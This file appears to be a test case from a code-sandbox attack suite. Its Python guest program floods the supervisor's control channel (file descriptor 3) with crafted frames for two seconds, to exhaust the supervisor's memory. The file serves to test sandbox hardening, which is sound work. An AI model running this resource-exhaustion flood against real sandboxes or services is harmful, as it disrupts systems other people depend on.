# guest: floods the control channel
# source: python-discord/snekbox PR #81, on another channel
# attacks: the memory and the patience of the supervisor
# walls: none
# observer: control_flood
# oracle: the supervisor's peak of memory; control: the channel took more than that
# status: ok
# credit: "exit_code": 0
import os
import time

from attack import tell


def field(tag: int, data: bytes) -> bytes:
    return tag.to_bytes(4, "little") + len(data).to_bytes(4, "little") + data


def order(number: int) -> bytes:
    payload = field(6, bytes([1 + number % 2])) + field(7, number.to_bytes(8, "little"))
    return len(payload).to_bytes(4, "little") + (16).to_bytes(4, "little") + payload


# What the runner itself says when a program prints to one stream and then to the other.
block = b"".join(order(number) for number in range(16384))
total = 0
end = time.monotonic() + 2
try:
    while time.monotonic() < end and total < 1 << 28:
        total += os.write(3, block)
except OSError as error:
    tell("closed", error)
tell("sent", total)
